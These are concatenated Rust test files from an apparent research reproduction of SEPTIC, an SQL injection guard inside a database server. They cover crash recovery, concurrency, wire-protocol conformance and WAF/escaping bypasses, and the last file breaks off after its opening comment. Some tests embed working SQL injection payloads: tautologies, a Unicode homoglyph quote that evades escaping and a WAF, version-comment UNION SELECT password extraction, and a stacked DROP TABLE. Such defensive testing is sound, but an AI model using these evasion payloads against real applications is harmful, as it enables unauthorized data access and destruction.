    store.learn(qid(2), shape(2)); // journaled, not yet checkpointed

    // The next save suffers a silent torn write: the OS reports success
    // but only half the bytes hit the disk. The read-back verification
    // catches it before the old snapshot is replaced.
    let faulty = FaultyBackend::new(mem.clone()).with_fault(
        OpKind::Write,
        0,
        Fault::SilentTorn { keep: 40 },
    );
    let err = store.save_with(&faulty, path).unwrap_err();
    assert!(err.to_string().contains("torn write"), "got {err}");

    // Nothing was lost: the snapshot still holds model 1 and the journal
    // still holds model 2.
    let fresh = ModelStore::new();
    let report = fresh.load_with(&*mem, path).unwrap();
    assert!(fresh.contains(&qid(1)) && fresh.contains(&qid(2)));
    assert!(!report.recovered);
    assert_eq!(report.journal_replayed, 1);
}

#[test]
fn corruption_planted_on_disk_recovers_review_state_from_backup() {
    let mem = Arc::new(MemBackend::new());
    let path = std::path::Path::new("models.json");

    let store = ModelStore::new();
    store.learn(qid(1), shape(1));
    store.learn_provisional(qid(2), shape(2));
    store.reject(&qid(3));
    store.save_with(&*mem, path).unwrap();
    store.learn(qid(4), shape(4));
    store.save_with(&*mem, path).unwrap(); // backup = first snapshot

    mem.plant(path, b"SEPTIC-STORE v2 crc32=00000000 len=3\nzzz".to_vec());

    let fresh = ModelStore::new();
    let report = fresh.load_with(&*mem, path).unwrap();
    assert!(report.recovered);
    // The backup carried the full review state, not just the models.
    assert!(fresh.contains(&qid(1)));
    assert_eq!(fresh.pending_review(), vec![qid(2)]);
    assert!(fresh.is_rejected(&qid(3)));
    // The corrupt file is preserved for post-mortem inspection.
    assert!(mem.exists(&quarantine_path(path)));
}

#[test]
fn septic_counts_store_recoveries() {
    let dir = std::env::temp_dir().join(format!("septic-faults-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("recovery-count.json");

    let septic = Septic::new();
    septic.store().learn(qid(1), shape(1));
    septic.save_models(&path).unwrap();
    std::fs::write(&path, "garbage, not a snapshot").unwrap();

    let fresh = Septic::new();
    let report = fresh.load_models(&path).unwrap();
    assert!(report.recovered);
    assert_eq!(fresh.counters().store_recoveries, 1);
    for suffix in ["", ".bak", ".corrupt", ".journal"] {
        std::fs::remove_file(dir.join(format!("recovery-count.json{suffix}"))).ok();
    }
}

#[test]
fn models_learned_incrementally_survive_a_crash_via_the_journal() {
    let dir = std::env::temp_dir().join(format!("septic-faults-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("journal-crash.json");
    std::fs::remove_file(&path).ok();
    std::fs::remove_file(journal_path(&path)).ok();

    // A deployment journaling to disk learns incrementally in prevention
    // mode, then "crashes" before any checkpoint save.
    {
        let server = Server::new();
        let conn = server.connect();
        conn.execute("CREATE TABLE t (a VARCHAR(10))").unwrap();
        let septic = Arc::new(Septic::new());
        septic.attach_persistence(&path);
        server.install_guard(septic.clone());
        septic.set_mode(Mode::PREVENTION);
        conn.execute("SELECT * FROM t WHERE a = 'benign'").unwrap();
        assert_eq!(septic.store().len(), 1);
        // No save_models call: the process dies here.
    }

    let restarted = Septic::new();
    let report = restarted.load_models(&path).unwrap();
    assert_eq!(report.models_loaded, 0, "no snapshot was ever written");
    assert!(report.recovered);
    assert_eq!(report.journal_replayed, 1);
    assert_eq!(restarted.store().len(), 1);
    assert_eq!(
        restarted.pending_review().len(),
        1,
        "quarantine state survived too"
    );
    std::fs::remove_file(journal_path(&path)).ok();
}

#[test]
fn mid_save_fault_preserves_review_state_and_model_count_exactly() {
    let mem = Arc::new(MemBackend::new());
    let path = std::path::Path::new("models.json");

    // A checkpointed store with non-trivial review state: two learned
    // models, one provisional awaiting review, one rejected id.
    let store = ModelStore::new();
    store.attach_persistence(mem.clone(), path);
    store.learn(qid(1), shape(1));
    store.learn(qid(2), shape(2));
    store.learn_provisional(qid(3), shape(3));
    store.reject(&qid(4));
    store.save_with(&*mem, path).unwrap();

    // More state arrives after the checkpoint — it lives in the journal
    // only — and then the next save dies halfway through its write.
    store.learn(qid(5), shape(5));
    store.learn_provisional(qid(6), shape(6));
    let faulty =
        FaultyBackend::new(mem.clone()).with_fault(OpKind::Write, 0, Fault::Torn { keep: 25 });
    store
        .save_with(&faulty, path)
        .expect_err("the torn save must surface");

    // A fresh process replays snapshot + journal and lands on *exactly*
    // the pre-crash state: same model count, same pending-review queue,
    // same rejection — nothing lost, nothing duplicated, nothing
    // spuriously promoted out of review.
    let fresh = ModelStore::new();
    let report = fresh.load_with(&*mem, path).unwrap();
    assert_eq!(fresh.len(), store.len());
    assert_eq!(fresh.len(), 5, "models 1, 2, 5 plus provisionals 3 and 6");
    assert_eq!(
        report.journal_replayed, 2,
        "models 5 and 6 came from the journal"
    );
    for n in [1, 2, 5] {
        assert!(fresh.contains(&qid(n)), "model {n} lost");
    }
    let mut pending = fresh.pending_review();
    pending.sort_by_key(|id| id.internal);
    assert_eq!(pending, vec![qid(3), qid(6)]);
    assert!(fresh.is_rejected(&qid(4)));
    assert!(!fresh.is_rejected(&qid(1)));
}

// ---------------------------------------------------------------------------
// Property: one injected fault never loses acknowledged state
// ---------------------------------------------------------------------------

const FAULT_OPS: [OpKind; 4] = [OpKind::Read, OpKind::Write, OpKind::Rename, OpKind::Remove];
const FAULT_KINDS: [&str; 3] = ["error", "torn", "silent"];

proptest! {
    /// Whatever single backend fault strikes the *second* save, a fresh
    /// load afterwards reconstructs the full post-mutation state: either
    /// the save committed, or the previous snapshot plus the journal
    /// cover it. (`AppendLine` is exempt by design: journal appends are
    /// best-effort and surface via `journal_errors` instead.)
    #[test]
    fn state_survives_any_single_fault_during_save(
        base in 1u64..4,
        extra in 1u64..4,
        op_i in 0usize..4,
        nth in 0u64..2,
        kind_i in 0usize..3,
        keep in 0usize..60,
    ) {
        let mem = Arc::new(MemBackend::new());
        let path = std::path::Path::new("models.json");

        let store = ModelStore::new();
        store.attach_persistence(mem.clone(), path);
        for n in 0..base {
            store.learn(qid(n), shape(n));
        }
        store.save_with(&*mem, path).unwrap();
        for n in base..base + extra {
            store.learn(qid(n), shape(n));
        }

        let fault = match FAULT_KINDS[kind_i] {
            "error" => Fault::Error,
            "torn" => Fault::Torn { keep },
            _ => Fault::SilentTorn { keep },
        };
        let faulty = FaultyBackend::new(mem.clone());
        faulty.inject(FAULT_OPS[op_i], nth, fault);
        let _ = store.save_with(&faulty, path); // may fail: that's the point

        let fresh = ModelStore::new();
        let report = fresh.load_with(&*mem, path);
        prop_assert!(report.is_ok(), "load must always succeed: {report:?}");
        for n in 0..base + extra {
            prop_assert!(
                fresh.contains(&qid(n)),
                "model {n} lost after fault {:?} nth={nth} (fired: {:?})",
                FAULT_OPS[op_i],
                faulty.fired(),
            );
        }
        prop_assert_eq!(fresh.len() as u64, base + extra);
    }
}

// ---------------------------------------------------------------------------
// Property: one scripted I/O fault never breaks WAL crash-safety
// ---------------------------------------------------------------------------

const IO_OPS: [IoOp; 4] = [IoOp::Read, IoOp::Write, IoOp::Append, IoOp::Rename];

/// Values a recovered `SELECT v FROM t` returned, as a sorted set.
fn recovered_values(server: &Arc<Server>) -> Option<std::collections::BTreeSet<i64>> {
    match server.connect().execute("SELECT v FROM t") {
        Err(_) => None, // the CREATE itself did not survive
        Ok(result) => {
            let mut vals = std::collections::BTreeSet::new();
            for output in &result.outputs {
                for row in &output.rows {
                    match row.first() {
                        Some(Value::Int(v)) => {
                            vals.insert(*v);
                        }
                        other => panic!("non-integer cell recovered: {other:?}"),
                    }
                }
            }
            Some(vals)
        }
    }
}

proptest! {
    /// One scripted I/O fault — error, torn write, or silently torn write
    /// on any WAL or checkpoint operation — models the process crashing at
    /// that instant. A fresh recovery from the medium must then satisfy:
    ///
    /// * recovery itself never fails and never replays a torn record;
    /// * every commit acknowledged *before* the crash point survives;
    /// * the single in-flight commit (the one whose WAL append the fault
    ///   struck) may be present or absent, but if present it is complete —
    ///   both rows of its two-row INSERT, never one;
    /// * nothing else appears: every recovered row maps back to a commit
    ///   the workload actually issued.
    #[test]
    fn wal_recovery_survives_any_single_io_fault(
        n_commits in 1usize..6,
        ckpt_i in 0usize..3,
        op_i in 0usize..4,
        nth in 0u64..8,
        kind_i in 0usize..3,
        keep in 0usize..80,
    ) {
        let checkpoint_every = [0u64, 2, 3][ckpt_i];
        let op = IO_OPS[op_i];
        let fault = match kind_i {
            0 => Fault::Error,
            1 => Fault::Torn { keep },
            _ => Fault::SilentTorn { keep },
        };
        let mem = MemIo::new();
        let faulty = FaultyIo::new(mem.clone() as Arc<dyn StorageIo>);
        faulty.inject(op, nth, fault);

        let wal_cfg = WalConfig { checkpoint_every };
        let (server, _) = Server::open_durable(
            ServerConfig::default(),
            faulty.clone() as Arc<dyn StorageIo>,
            wal_cfg.clone(),
        )
        .expect("open on an empty medium touches no files");
        let conn = server.connect();

        // Commit 0 creates the table; commit k inserts the pair (2k, 2k+1)
        // in ONE statement, so partial replay of a commit is observable.
        let mut acked: Vec<usize> = Vec::new();
        let mut in_flight: Option<usize> = None;
        for idx in 0..=n_commits {
            let sql = if idx == 0 {
                "CREATE TABLE t (v INT)".to_string()
            } else {
                format!("INSERT INTO t (v) VALUES ({}), ({})", 2 * idx, 2 * idx + 1)
            };
            let fired_before = !faulty.fired().is_empty();
            let res = conn.execute(&sql);
            if res.is_ok() {
                acked.push(idx);
            }
            if !faulty.fired().is_empty() {
                if !fired_before {
                    in_flight = Some(idx);
                }
                break; // the fault IS the crash: the process dies here
            }
        }
        drop(conn);
        drop(server);

        // A fresh process recovers from the medium alone.
        let (revived, report) =
            Server::open_durable(ServerConfig::default(), mem.clone() as Arc<dyn StorageIo>, wal_cfg)
                .expect("recovery must always succeed");
        prop_assert!(report.replay_errors == 0, "a torn record was replayed");

        let values = recovered_values(&revived);
        let mut present: std::collections::BTreeSet<usize> = std::collections::BTreeSet::new();
        if let Some(vals) = &values {
            present.insert(0); // the table exists: the CREATE survived
            for v in vals {
                let idx = usize::try_from(*v / 2).expect("small test value");
                prop_assert!(
                    (1..=n_commits).contains(&idx),
                    "recovered value {v} maps to no issued commit"
                );
                // Commit atomicity: both rows of the pair, never one.
                prop_assert!(
                    vals.contains(&(2 * (*v / 2))) == vals.contains(&(2 * (*v / 2) + 1)),
                    "commit {idx} replayed partially"
                );
                present.insert(idx);
            }
        }

        // Only a fault on the WAL append leaves the in-flight commit
        // ambiguous (torn → quarantined, or fully framed → replayed).
        // Checkpoint-path faults strike *after* the append: the commit is
        // already durable and must survive.
        let ambiguous: Option<usize> = match (op, in_flight) {
            (IoOp::Append, Some(idx)) => Some(idx),
            _ => None,
        };
        for idx in &acked {
            if Some(*idx) == ambiguous {
                continue;
            }
            prop_assert!(
                present.contains(idx),
                "acked commit {idx} lost (op {op:?} nth {nth}, fired {:?})",
                faulty.fired()
            );
        }
        for idx in &present {
            prop_assert!(
                acked.contains(idx) || Some(*idx) == ambiguous,
                "commit {idx} recovered but was never acknowledged"
            );
        }
    }
}

#[test]
fn transient_append_error_fails_the_commit_without_poisoning_the_log() {
    let mem = MemIo::new();
    let faulty = FaultyIo::new(mem.clone() as Arc<dyn StorageIo>);
    let (server, _) = Server::open_durable(
        ServerConfig::default(),
        faulty.clone() as Arc<dyn StorageIo>,
        WalConfig::default(),
    )
    .unwrap();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (v INT)").unwrap();

    // The disk refuses one append: the commit must fail *to the client*
    // and roll back in memory — no ack without durability.
    faulty.inject(IoOp::Append, 1, Fault::Error);
    let err = conn.execute("INSERT INTO t (v) VALUES (1)").unwrap_err();
    assert!(matches!(err, DbError::Storage(_)), "got {err:?}");
    let rows = conn.execute("SELECT v FROM t").unwrap();
    assert!(rows.outputs[0].rows.is_empty(), "unlogged write is visible");

    // The error persisted no bytes, so the log is intact: the next commit
    // succeeds and survives a restart.
    conn.execute("INSERT INTO t (v) VALUES (2)").unwrap();
    drop(conn);
    drop(server);
    let (revived, report) = Server::open_durable(
        ServerConfig::default(),
        mem as Arc<dyn StorageIo>,
        WalConfig::default(),
    )
    .unwrap();
    assert_eq!(report.torn_records, 0);
    let vals = recovered_values(&revived).expect("table survived");
    assert_eq!(vals.into_iter().collect::<Vec<_>>(), vec![2]);
}
