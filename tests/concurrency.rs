//! Client-diversity and concurrency tests: "several DBMS clients of
//! different types may be connected to a single DBMS server with SEPTIC"
//! (Section II-B). Multiple connections — web application traffic, a
//! direct SQL client, an attacker's tool — hit one server concurrently
//! while SEPTIC protects all of them with a single model store.

use std::sync::Arc;

use septic_repro::dbms::{DbError, Server, Value};
use septic_repro::septic::{Mode, Septic};
use septic_repro::telemetry::parse_prometheus;

fn protected_server() -> (Arc<Server>, Arc<Septic>) {
    let server = Server::new();
    let conn = server.connect();
    conn.execute(
        "CREATE TABLE accounts (id INT PRIMARY KEY AUTO_INCREMENT, \
         owner VARCHAR(32) NOT NULL, balance INT NOT NULL)",
    )
    .unwrap();
    conn.execute("INSERT INTO accounts (owner, balance) VALUES ('ann', 100), ('bob', 50)")
        .unwrap();
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("SELECT balance FROM accounts WHERE owner = 'ann'")
        .unwrap();
    conn.execute("UPDATE accounts SET balance = 1 WHERE owner = 'ann'")
        .unwrap();
    conn.execute("INSERT INTO accounts (owner, balance) VALUES ('seed', 0)")
        .unwrap();
    septic.set_mode(Mode::PREVENTION);
    (server, septic)
}

#[test]
fn many_clients_share_one_protected_server() {
    let (server, septic) = protected_server();
    let threads = 8;
    let per_thread = 50;
    std::thread::scope(|scope| {
        for t in 0..threads {
            let conn = server.connect();
            scope.spawn(move || {
                for i in 0..per_thread {
                    // Benign traffic with varying literals.
                    let out = conn
                        .query(&format!(
                            "SELECT balance FROM accounts WHERE owner = 'client{t}-{i}'"
                        ))
                        .expect("benign query must pass");
                    assert!(out.rows.is_empty());
                    // Writes too.
                    conn.execute(&format!(
                        "INSERT INTO accounts (owner, balance) VALUES ('w{t}-{i}', {i})"
                    ))
                    .expect("benign insert must pass");
                }
            });
        }
    });
    let snapshot = septic.counters();
    assert_eq!(
        snapshot.sqli_detected, 0,
        "no false positives under concurrency"
    );
    assert_eq!(snapshot.queries_dropped, 0);
    // All writes landed.
    let conn = server.connect();
    let out = conn.query("SELECT COUNT(*) FROM accounts").unwrap();
    assert_eq!(out.scalar(), Some(&Value::Int(3 + threads * per_thread)));
}

#[test]
fn concurrent_attacks_are_all_blocked() {
    let (server, septic) = protected_server();
    let attacks_per_thread = 20;
    let threads = 4;
    std::thread::scope(|scope| {
        for _ in 0..threads {
            let conn = server.connect();
            scope.spawn(move || {
                for i in 0..attacks_per_thread {
                    let err = conn
                        .execute(&format!(
                            "SELECT balance FROM accounts WHERE owner = '' OR {i}={i}-- '"
                        ))
                        .expect_err("attack must be dropped");
                    assert!(matches!(err, DbError::Blocked(_)));
                }
            });
        }
    });
    assert_eq!(
        septic.counters().queries_dropped,
        (threads * attacks_per_thread) as u64
    );
}

#[test]
fn mixed_benign_and_attack_traffic() {
    let (server, septic) = protected_server();
    std::thread::scope(|scope| {
        // A well-behaved application client…
        let benign_conn = server.connect();
        scope.spawn(move || {
            for i in 0..100 {
                benign_conn
                    .query(&format!(
                        "SELECT balance FROM accounts WHERE owner = 'u{i}'"
                    ))
                    .expect("benign must pass");
            }
        });
        // …and an attacker hammering in parallel.
        let attack_conn = server.connect();
        scope.spawn(move || {
            for _ in 0..100 {
                let _ =
                    attack_conn.execute("SELECT balance FROM accounts WHERE owner = '' OR 1=1-- '");
            }
        });
    });
    let snapshot = septic.counters();
    assert_eq!(snapshot.queries_dropped, 100);
    assert!(snapshot.models_found >= 100);
}

#[test]
fn training_concurrently_learns_each_shape_once() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (a VARCHAR(16))").unwrap();
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    std::thread::scope(|scope| {
        for t in 0..8 {
            let conn = server.connect();
            scope.spawn(move || {
                for i in 0..25 {
                    conn.execute(&format!("SELECT a FROM t WHERE a = 'x{t}-{i}'"))
                        .unwrap();
                }
            });
        }
    });
    // One shape, one model — regardless of 200 concurrent learnings.
    assert_eq!(septic.store().len(), 1);
}

#[test]
fn stress_counters_account_for_every_query() {
    // N session threads x M queries of mixed phases, with exact totals at
    // the end: no lost detections, no lost models, no lost counts.
    let threads: u64 = 8;
    let per_thread: u64 = 30;

    let server = Server::new();
    let setup = server.connect();
    setup
        .execute("CREATE TABLE t (a VARCHAR(32), note VARCHAR(64))")
        .unwrap();
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());

    // Phase 1 — concurrent training of per-thread shapes (distinct
    // external ids): every shape learned exactly once.
    septic.set_mode(Mode::Training);
    std::thread::scope(|scope| {
        for t in 0..threads {
            let conn = server.connect();
            scope.spawn(move || {
                for i in 0..per_thread {
                    conn.execute(&format!(
                        "/* qid:stress-{t} */ SELECT a FROM t WHERE a = 'x{i}'"
                    ))
                    .expect("training query");
                }
            });
        }
    });
    assert_eq!(septic.store().len(), threads as usize);
    assert_eq!(septic.counters().models_created, threads);

    // Phase 2 — prevention: per thread, half benign traffic on its
    // trained shape, half tautology attacks against it.
    septic.set_mode(Mode::PREVENTION);
    let sessions: Vec<_> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let conn = server.connect();
                scope.spawn(move || {
                    for i in 0..per_thread {
                        if i % 2 == 0 {
                            conn.execute(&format!(
                                "/* qid:stress-{t} */ SELECT a FROM t WHERE a = 'y{i}'"
                            ))
                            .expect("benign query must pass");
                        } else {
                            let err = conn
                                .execute(&format!(
                                    "/* qid:stress-{t} */ SELECT a FROM t WHERE a = '' OR {i}={i}-- '"
                                ))
                                .expect_err("attack must be dropped");
                            assert!(matches!(err, DbError::Blocked(_)));
                        }
                    }
                    conn.session_stats()
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });

    let benign_per_thread = per_thread.div_ceil(2);
    let attacks_per_thread = per_thread / 2;
    let snapshot = septic.counters();
    assert_eq!(snapshot.sqli_detected, threads * attacks_per_thread);
    assert_eq!(snapshot.queries_dropped, threads * attacks_per_thread);
    assert_eq!(snapshot.queries_seen, threads * per_thread * 2);
    assert_eq!(septic.store().len(), threads as usize, "no extra models");
    // Per-session accounting agrees with the global counters.
    for s in &sessions {
        assert_eq!(s.queries_ok, benign_per_thread);
        assert_eq!(s.queries_blocked, attacks_per_thread);
        assert_eq!(s.queries_failed, 0);
    }

    // The three observability surfaces must agree with each other and
    // with the per-session counters: the merged MetricsSnapshot, the
    // Prometheus text export, and the logger's monotonic kind counters.
    let attacks = threads * attacks_per_thread;
    let merged = server.metrics_snapshot();
    assert_eq!(merged.counter("septic_attacks_total"), Some(attacks));
    assert_eq!(
        merged.counter("septic_queries_dropped_total"),
        Some(attacks)
    );
    assert_eq!(
        merged.counter("septic_queries_total"),
        Some(threads * per_thread * 2)
    );
    let series = parse_prometheus(&server.prometheus()).expect("export must parse");
    assert_eq!(
        series.get("septic_attacks_total").copied(),
        Some(attacks as f64)
    );
    assert_eq!(
        series.get("septic_queries_dropped_total").copied(),
        Some(attacks as f64)
    );
    let session_blocked: u64 = sessions.iter().map(|s| s.queries_blocked).sum();
    assert_eq!(session_blocked, attacks);
    assert_eq!(septic.logger().attack_count() as u64, attacks);
    // Stage histograms were exercised and export self-consistently: the
    // rendered `_count` series equals the snapshot count.
    let inspect = merged
        .histogram("septic_stage_duration_microseconds{stage=\"inspect\"}")
        .expect("inspect stage histogram");
    assert_eq!(inspect.count, threads * per_thread * 2);
    assert_eq!(
        series
            .get("septic_stage_duration_microseconds_count{stage=\"inspect\"}")
            .copied(),
        Some(inspect.count as f64)
    );
}

#[test]
fn model_lookups_share_one_allocation() {
    // The hot path must hand back the stored model, not a deep clone.
    let septic = Septic::new();
    let stack = septic_repro::sql::items::lower_all(
        &septic_repro::sql::parse("SELECT a FROM t WHERE a = 'x'")
            .unwrap()
            .statements,
    );
    let id = septic_repro::septic::QueryId {
        external: None,
        internal: 42,
    };
    septic.store().learn(
        id.clone(),
        septic_repro::septic::QueryModel::from_structure(&stack),
    );
    let a = septic.store().get(&id).expect("model");
    let b = septic.store().get(&id).expect("model");
    assert!(Arc::ptr_eq(&a, &b), "get() must be a refcount bump");
}
