//! The golden detection matrix, over the wire.
//!
//! The conformance lab proves the in-process verdicts (`crates/
//! conformance`, golden file at `tests/golden/detection_matrix.json`).
//! This suite proves the *wire* tells the same story: every generated
//! case — all 124 rows of the checked-in matrix — is sent through a TCP
//! front end against a fresh prevention-mode deployment, and the frame
//! that comes back must match, field for field (minus timing), the
//! `Response` an identical in-process run maps to. The derived verdict
//! is then checked against the golden `septic_prevention` column, so a
//! regression in the socket layer, the codec, or the verdict mapping
//! cannot hide behind a passing in-process matrix.
//!
//! Cases are regenerated from the golden seed rather than read from the
//! JSON because the golden file deliberately records payloads and
//! verdicts, not raw SQL.

use std::net::TcpStream;

use septic_conformance::differential::{prevention_deployment, DetectionMatrix, MATRIX_SEED};
use septic_conformance::grammar::generate_cases;
use septic_dbms::DbError;
use septic_net::{
    read_frame, serve_front_end, write_frame, FrontEndKind, NetServerConfig, QueryRequest, Request,
    Response, SessionOpts, DEFAULT_MAX_FRAME_LEN, PROTOCOL_VERSION,
};

/// The front end under test: the epoll reactor where it exists, the
/// blocking pool elsewhere, so the matrix rides the wire on every
/// platform.
fn wire_kind() -> FrontEndKind {
    if cfg!(target_os = "linux") {
        FrontEndKind::EventLoop
    } else {
        FrontEndKind::Blocking
    }
}

/// Small per-case footprint: one connection at a time needs one worker
/// and one reactor.
fn config() -> NetServerConfig {
    NetServerConfig {
        workers: 1,
        accept_queue: 4,
        reactors: 1,
        ..NetServerConfig::default()
    }
}

fn load_golden() -> DetectionMatrix {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/golden/detection_matrix.json"
    );
    let text = std::fs::read_to_string(path).expect("golden matrix readable");
    serde_json::from_str(&text).expect("golden matrix parses")
}

/// One request/response round trip on a raw stream — the test speaks
/// frames directly (not `NetClient`) so it can compare the undecoded
/// `Response`, error shapes included.
fn exchange(stream: &mut TcpStream, request: &Request) -> Response {
    write_frame(stream, request, DEFAULT_MAX_FRAME_LEN).expect("send frame");
    read_frame(stream, DEFAULT_MAX_FRAME_LEN).expect("read frame")
}

/// Canonical rendering of a response with timing fields excluded — the
/// only part of a `Result` frame that may differ between a wire run and
/// an in-process run of the same case.
fn response_class(response: &Response) -> String {
    match response {
        Response::Result(r) => {
            let outputs = r
                .outputs
                .iter()
                .map(|o| {
                    format!(
                        "columns={:?} rows={:?} affected={} last_id={:?}",
                        o.columns, o.rows, o.affected, o.last_insert_id
                    )
                })
                .collect::<Vec<_>>()
                .join("; ");
            format!("result[{outputs}]")
        }
        Response::Blocked { reason } => format!("blocked[{reason}]"),
        Response::GuardFailure { reason } => format!("guard-failure[{reason}]"),
        Response::Error { message } => format!("error[{message}]"),
        Response::ServerBusy { reason } => format!("server-busy[{reason}]"),
        Response::Hello { version } => format!("hello[{version}]"),
        Response::Pong => "pong".to_string(),
    }
}

#[test]
fn golden_matrix_verdicts_survive_the_wire() {
    let kind = wire_kind();
    let golden = load_golden();
    assert_eq!(golden.seed, MATRIX_SEED, "golden file seed");
    let cases = generate_cases(golden.seed);
    assert_eq!(
        cases.len(),
        golden.cases.len(),
        "generator and golden file agree on the case count"
    );
    // Prevention either blocks or lets the query run — `flagged` is a
    // detection-mode verdict. The wire mapping below relies on that.
    assert!(
        golden
            .cases
            .iter()
            .all(|c| c.septic_prevention != "flagged"),
        "prevention column never flags"
    );

    for (case, golden_row) in cases.iter().zip(&golden.cases) {
        assert_eq!(case.id, golden_row.id, "case order matches the golden file");

        // The reference: the same case on an identical fresh in-process
        // deployment, mapped onto the wire exactly as the handler maps
        // it. Each case gets its own deployment (both here and over the
        // socket) so a piggybacked DROP TABLE cannot leak into the next
        // row — the same isolation the golden matrix is built under.
        let reference = prevention_deployment();
        let outcome = reference.connect().execute(&case.sql);
        let expected = Response::from_outcome(&outcome);

        let handle = serve_front_end(kind, prevention_deployment(), ("127.0.0.1", 0), config())
            .expect("front end serves");
        let mut stream = TcpStream::connect(handle.addr()).expect("connect");
        stream.set_nodelay(true).ok();
        match exchange(
            &mut stream,
            &Request::Hello {
                version: PROTOCOL_VERSION,
                opts: SessionOpts::default(),
            },
        ) {
            Response::Hello { version } => assert_eq!(version, PROTOCOL_VERSION),
            other => panic!("case {}: handshake answered {other:?}", case.id),
        }
        let actual = exchange(
            &mut stream,
            &Request::Query(QueryRequest {
                sql: case.sql.clone(),
                params: None,
            }),
        );
        drop(stream);
        handle.shutdown();

        assert_eq!(
            response_class(&actual),
            response_class(&expected),
            "case {} over the {kind} front end",
            case.id
        );

        let verdict = match &outcome {
            Err(DbError::Blocked(_) | DbError::GuardFailure(_)) => "blocked",
            Err(DbError::Parse(_)) => "parse-error",
            Ok(_) | Err(_) => "passed",
        };
        assert_eq!(
            verdict, golden_row.septic_prevention,
            "case {} verdict vs golden (sql: {})",
            case.id, case.sql
        );
    }
}
