//! The semantic mismatch, layer by layer: these tests pin down *why* each
//! defense layer sees a different query than the one MySQL executes —
//! the paper's central claim, verified end to end.

use std::sync::Arc;

use septic_repro::dbms::{DbError, Server, Value};
use septic_repro::http::HttpRequest;
use septic_repro::septic::{Mode, Septic};
use septic_repro::sql::charset;
use septic_repro::waf::ModSecurity;
use septic_repro::webapp::php::mysql_real_escape_string;

const PAYLOAD: &str = "ID34FG\u{02BC}-- ";

#[test]
fn layer1_php_escaping_does_not_see_the_quote() {
    // PHP: the homoglyph is not one of the escaped bytes.
    assert_eq!(mysql_real_escape_string(PAYLOAD), PAYLOAD);
    // …whereas the ASCII version is neutralised.
    assert_eq!(mysql_real_escape_string("ID34FG'-- "), "ID34FG\\'-- ");
}

#[test]
fn layer2_waf_does_not_see_the_quote() {
    let waf = ModSecurity::new();
    let request = HttpRequest::post("/f").param("v", PAYLOAD);
    assert!(!waf.inspect(&request).is_blocked());
    // …whereas the ASCII version trips the quote-then-comment rule family.
    let ascii = HttpRequest::post("/f").param("v", "ID34FG'-- x' OR 1=1");
    assert!(waf.inspect(&ascii).is_blocked());
}

#[test]
fn layer3_the_dbms_decodes_the_quote() {
    let decoded = charset::decode(&format!("SELECT 1 FROM t WHERE a = '{PAYLOAD}'"));
    assert!(decoded.text.contains("'ID34FG'-- "));
    assert_eq!(decoded.substitutions.len(), 1);
}

#[test]
fn the_gap_is_exploitable_without_septic_and_closed_with_it() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")
        .unwrap();
    conn.execute("INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)")
        .unwrap();

    // The application-built query (inputs escaped!) — credit card check
    // silently amputated by the decoded quote + comment.
    let escaped = mysql_real_escape_string(PAYLOAD);
    let sql = format!("SELECT * FROM tickets WHERE reservID = '{escaped}' AND creditCard = 9999");
    let out = conn.query(&sql).expect("executes without SEPTIC");
    assert_eq!(out.rows.len(), 1, "wrong credit card, row returned anyway");

    // Same server, SEPTIC installed and trained: the attack is dropped.
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.query("SELECT * FROM tickets WHERE reservID = 'OK' AND creditCard = 1")
        .unwrap();
    septic.set_mode(Mode::PREVENTION);
    let err = conn.query(&sql).expect_err("SEPTIC must drop the attack");
    assert!(matches!(err, DbError::Blocked(_)));
}

#[test]
fn numeric_coercion_mismatch_is_reproduced() {
    // MySQL type juggling: the string 'abc' equals the number 0.
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (pin VARCHAR(8))").unwrap();
    conn.execute("INSERT INTO t (pin) VALUES ('abc')").unwrap();
    // A developer comparing a VARCHAR column against user-supplied `0`
    // believes nothing matches; MySQL coerces and everything matches.
    let out = conn.query("SELECT COUNT(*) FROM t WHERE pin = 0").unwrap();
    assert_eq!(out.scalar(), Some(&Value::Int(1)));
    let out = conn
        .query("SELECT COUNT(*) FROM t WHERE pin = '0'")
        .unwrap();
    assert_eq!(
        out.scalar(),
        Some(&Value::Int(0)),
        "string compare is exact"
    );
}

#[test]
fn version_comments_are_invisible_to_the_waf_but_executed_by_the_dbms() {
    // WAF view: replaceComments erases the body.
    let waf = ModSecurity::new();
    let evasive = "zz\u{02BC} /*!UNION*/ /*!SELECT*/ password FROM users-- ";
    assert!(!waf
        .inspect(&HttpRequest::post("/f").param("v", evasive))
        .is_blocked());

    // DBMS view: the body is part of the query.
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE users (password VARCHAR(16))")
        .unwrap();
    conn.execute("INSERT INTO users (password) VALUES ('hunter2')")
        .unwrap();
    let out = conn
        .query("SELECT 'x' /*!UNION*/ /*!SELECT*/ password FROM users")
        .unwrap();
    assert!(out.rows.iter().any(|r| r[0] == Value::from("hunter2")));
}

#[test]
fn prepared_statements_are_immune_by_construction() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (v VARCHAR(64))").unwrap();
    // Both the homoglyph bomb and a stacked-query payload are inert data.
    for payload in [PAYLOAD, "x'; DROP TABLE t-- "] {
        conn.execute_prepared("INSERT INTO t (v) VALUES (?)", &[Value::from(payload)])
            .unwrap();
    }
    assert!(server.with_db(|db| db.has_table("t")));
    let out = conn.query("SELECT COUNT(*) FROM t").unwrap();
    assert_eq!(out.scalar(), Some(&Value::Int(2)));
}
