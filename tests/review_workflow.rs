//! Integration tests for the Section II-E administrator review workflow
//! across the full stack: incremental learning quarantines models,
